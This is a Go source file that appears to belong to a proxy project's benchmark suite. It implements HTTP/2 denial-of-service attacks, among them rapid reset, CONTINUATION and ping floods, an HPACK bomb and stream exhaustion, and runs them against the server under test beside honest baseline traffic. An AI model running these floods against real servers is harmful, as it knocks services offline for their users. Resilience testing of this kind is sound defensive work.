package attack

import (
	"bytes"
	"math/rand/v2"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/kitexproxy/kitexproxy/bench/internal/wire"
)

const (
	wholeHeaders = http2.FlagHeadersEndHeaders
	wholeRequest = http2.FlagHeadersEndHeaders | http2.FlagHeadersEndStream

	honestCalls    = 64       // open at a time
	bombReferences = 12_000   // in one header block of less than a frame, each to 4 KiB
	endlessMessage = 32 << 20 // announced, and sent byte by byte
	windowStreams  = 16       // that get their windows a byte at a time
	closedStreams  = 1000     // at most, if the server allows as many
)

// closedWindow lets the server send nothing on a stream.
var closedWindow = []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}

// All is every attack, in the order of the report. The first two are none: they show what a busy neighbour does on the
// same machine, and what an ordinary one does.
var All = []Attack{
	{
		Name: "none-but-busy", About: "No attack: an idle connection, and a processor kept busy beside the proxy.",
		run: func(c *conn) error {
			for c.ctx.Err() == nil {
				c.pace.wait(c.ctx, 1)
			}
			return c.ctx.Err()
		},
	},
	{
		Name: "none-but-calls", About: "No attack: ordinary unary calls of 1 KiB, 64 at a time on one connection.",
		run: honest,
	},
	{
		Name: "rapid-reset", About: "HEADERS and at once RST_STREAM (CVE-2023-44487).",
		run: func(c *conn) error {
			return c.forever(func() error {
				if err := c.open(wire.Chat, wholeHeaders); err != nil {
					return err
				}
				return c.framer.WriteRSTStream(c.stream, http2.ErrCodeCancel)
			})
		},
	},
	{
		Name: "continuation", About: "A header block without end: CONTINUATION frames of 1 KiB (CVE-2024-27316).",
		run: continuation,
	},
	{
		Name: "settings-flood", About: "SETTINGS with one value (CVE-2019-9515).",
		run: func(c *conn) error {
			return c.forever(func() error {
				return c.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: initWindow})
			})
		},
	},
	{Name: "ping-flood", About: "PING (CVE-2019-9512).", run: pings},
	{Name: "ping-deaf", About: "PING, and the answers are never read.", deaf: true, run: pings},
	{
		Name: "priority-flood", About: "PRIORITY for ever new streams (CVE-2019-9513).",
		run: func(c *conn) error {
			return c.forever(func() error {
				c.nextStream()
				return c.framer.WritePriority(c.stream, http2.PriorityParam{StreamDep: c.stream - 1, Weight: byte(c.stream)})
			})
		},
	},
	{
		Name: "empty-data", About: "DATA without a byte on an open stream (CVE-2019-9518).",
		run: func(c *conn) error {
			if err := c.open(wire.Chat, wholeHeaders); err != nil {
				return err
			}
			return c.forever(func() error { return c.framer.WriteData(c.stream, false, nil) })
		},
	},
	{Name: "one-byte-data", About: "A message of 32 MiB in DATA frames of one byte.", run: oneByteData},
	{
		Name:     "one-byte-windows",
		About:    "WINDOW_UPDATEs of one byte, in turn on 16 streams with large answers (CVE-2019-9511).",
		settings: closedWindow,
		run: func(c *conn) error {
			if err := largeAnswers(c, windowStreams); err != nil {
				return err
			}
			var turn uint32
			return c.forever(func() error {
				turn++
				return c.framer.WriteWindowUpdate(1+2*(turn%windowStreams), 1)
			})
		},
	},
	{
		Name: "hpack-bomb", About: "Header blocks of 16 KiB that expand to 48 MB: a field of 4 KB, referred to 12,000 times.",
		run: bomb,
	},
	{
		Name: "too-many-streams", About: "Streams opened without end, far beyond what the server allows.",
		run: func(c *conn) error {
			return c.forever(func() error { return c.open(wire.Chat, wholeHeaders) })
		},
	},
	{
		Name: "closed-window", About: "As many streams as the server allows, at most 1,000, each with an answer of 16 MiB and a window of 0.",
		settings: closedWindow,
		run: func(c *conn) error {
			if err := c.until(func() bool { return c.settled }); err != nil {
				return err
			}
			return largeAnswers(c, min(closedStreams, int(c.maxStreams)))
		},
	},
	{
		Name: "half-frame", About: "Half a HEADERS frame, and then silence.",
		run: func(c *conn) error {
			c.silent = true // an answer would be taken for more of the frame
			c.out.Write(append([]byte{0, 0x40, 0, byte(http2.FrameHeaders), byte(wholeHeaders), 0, 0, 0, 1}, make([]byte, 8<<10)...))
			return c.flush()
		},
	},
	{Name: "garbage", About: "Random bytes from the first one on, 1 KiB at a time (counted as frames).", bare: true, run: garbage},
	{Name: "garbage-frames", About: "The same after a good preface.", run: garbage},
}

// honest is a client in good faith, which has one call follow another.
func honest(c *conn) error {
	body := wire.NewPayload(1 << 10).Stamp(1)
	for {
		if err := c.until(func() bool { return c.inFlight < honestCalls && c.window > 2*len(body) }); err != nil {
			return err
		}
		c.mu.Lock()
		c.inFlight++
		c.mu.Unlock()
		if err := c.open(wire.Unary, wholeHeaders); err != nil {
			return err
		}
		if err := c.message(body); err != nil {
			return err
		}
		if c.out.frames >= c.pace.batch() {
			if err := c.flush(); err != nil {
				return err
			}
		}
	}
}

func continuation(c *conn) error {
	if err := c.until(func() bool { return c.settled }); err != nil {
		return err
	}
	if err := c.flush(); err != nil {
		return err
	}
	c.silent = true // any frame in between is an error, and that is another attack
	if err := c.open(wire.Chat, 0); err != nil {
		return err
	}
	c.block.Reset()
	err := c.hpack.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("~", 1000), Sensitive: true})
	if err != nil {
		return err
	}
	return c.forever(func() error { return c.framer.WriteContinuation(c.stream, false, c.block.Bytes()) })
}

// bomb has the server learn a field that just fits its table of 4096 bytes, and refers to it from then on.
func bomb(c *conn) error {
	const newest = 0x80 | 62 // the indexed field that was added last, the static table having 61
	references := bytes.Repeat([]byte{newest}, bombReferences)
	field := hpack.HeaderField{Name: "x", Value: strings.Repeat("~", 4000)}
	return c.forever(func() error {
		if err := c.encode(wire.Chat, field); err != nil {
			return err
		}
		c.block.Write(references)
		return c.headers(wholeHeaders)
	})
}

func pings(c *conn) error {
	return c.forever(func() error { return c.framer.WritePing(false, [8]byte{1}) })
}

func oneByteData(c *conn) error {
	if err := c.open(wire.Chat, wholeHeaders); err != nil {
		return err
	}
	head := prefix(endlessMessage)
	if err := c.framer.WriteData(c.stream, false, head); err != nil {
		return err
	}
	left := endlessMessage
	c.mu.Lock()
	c.window, c.credit = c.window-len(head), c.credit-len(head)
	c.mu.Unlock()
	return c.forever(func() error {
		if left == 0 {
			return c.hold()
		}
		left--
		if err := c.until(func() bool { return c.window > 0 && c.credit > 0 }); err != nil {
			return err
		}
		c.mu.Lock()
		c.window, c.credit = c.window-1, c.credit-1
		c.mu.Unlock()
		return c.framer.WriteData(c.stream, false, []byte{0})
	})
}

// largeAnswers asks for n answers of 16 MiB each.
func largeAnswers(c *conn, n int) error {
	request := wire.StreamRequest{Count: 256, Size: 64 << 10}.Encode()
	for range n {
		if err := c.open(wire.Stream, wholeHeaders); err != nil {
			return err
		}
		if err := c.message(request); err != nil {
			return err
		}
		if c.out.frames >= c.pace.batch() {
			if err := c.flush(); err != nil {
				return err
			}
		}
	}
	return c.flush()
}

func garbage(c *conn) error {
	random := rand.NewChaCha8([32]byte{'b', 'e', 'n', 'c', 'h'})
	chunk := make([]byte, 1<<10)
	return c.forever(func() error {
		random.Read(chunk)
		_, err := c.out.Write(chunk)
		return err
	})
}
